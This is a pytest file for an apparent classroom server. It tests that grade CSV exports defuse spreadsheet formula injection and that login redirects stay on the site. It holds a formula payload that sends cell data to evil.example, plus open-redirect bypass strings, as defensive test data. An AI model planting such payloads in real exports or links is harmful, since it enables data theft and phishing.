"""Exports cannot carry formulas (a student named ``=HYPERLINK(…)``), and ``next=`` after
sign-in only goes to a path on this site."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import httpx
import pytest

from server.security.cells import cell
from server.security.redirects import safe_next
from tests.conftest import LiveServer, join_as, make_lesson
from tests.server.grading.test_submissions import RIGHT, load, write_course

DATABASES = ("sqlite",)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.bwrap
async def test_a_formula_name_is_plain_text_in_grades_csv(
    server: LiveServer, tmp_path: Path
) -> None:
    lesson = await make_lesson(server.url, server.settings, server.state)
    await load(server, lesson, write_course(tmp_path / "course"))
    async with httpx.AsyncClient(base_url=server.url, timeout=60) as http:
        # (A name cannot start with a tab or CR: the join form trims it; cells() covers them.)
        names = [HOSTILE, "+1+1", "-2", "@SUM(A1)", "Plain Name"]
        for name in names:
            student = await join_as(http, lesson.classroom["join_code"], name)
            graded = await http.post(
                f"/api/rooms/{lesson.room_id}/exercises/double/submissions",
                json={"files": {"main.py": RIGHT}},
                headers=student.headers,
            )
            assert graded.status_code in (200, 201), graded.text
        export = await http.get(
            f"/api/classrooms/{lesson.classroom['id']}/grades.csv", headers=lesson.teacher.headers
        )
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    # The gradebook has a row per student and exercise, unattempted ones included (Alice and
    # Bob joined with the lesson): the formula names are text, the rest is unchanged.
    submitted = {"'" + HOSTILE, "'+1+1", "'-2", "'@SUM(A1)", "Plain Name"}
    assert [row["exercise"] for row in rows] == ["double"] * (len(names) + 2)
    assert {row["student"] for row in rows} == submitted | {"Alice", "Bob"}
    assert len(rows) == len(names) + 2
    # Nothing else changed: every submitted row still carries its score.
    for row in rows:
        if row["student"] in submitted:
            assert row["status"] == "graded" and row["score"], row
        else:
            assert row["status"] == "not attempted" and not row["score"], row
    # And no cell anywhere starts a formula.
    for line in csv.reader(io.StringIO(export.text)):
        assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in line), line


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("/\\evil.example/x", "/dashboard"),
        ("//evil.example/x", "/dashboard"),
        ("https://evil.example/", "/dashboard"),
        ("/%09/evil.example", "/%09/evil.example"),  # a path on this site: %09 stays encoded
        ("/\t/evil.example", "/dashboard"),
        ("/rooms/3?doc=students/1/main.py", "/rooms/3?doc=students/1/main.py"),
        (None, "/dashboard"),
    ],
)
def test_safe_next(raw: str | None, expected: str) -> None:
    assert safe_next(raw) == expected


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_formula_cells_become_text(value: str) -> None:
    assert cell(value) == "'" + value
    assert cell("plain") == "plain" and cell(3) == 3


async def test_the_login_page_only_redirects_on_site(server: LiveServer) -> None:
    async with httpx.AsyncClient(base_url=server.url) as http:
        for raw, expected in (("/\\evil.example/x", "/dashboard"), ("/rooms/7", "/rooms/7")):
            page = await http.get("/login", params={"next": raw})
            found = re.search(
                r'<script type="application/json" id="boot">(.*?)</script>', page.text, re.S
            )
            assert found is not None
            assert json.loads(found.group(1))["next"] == expected
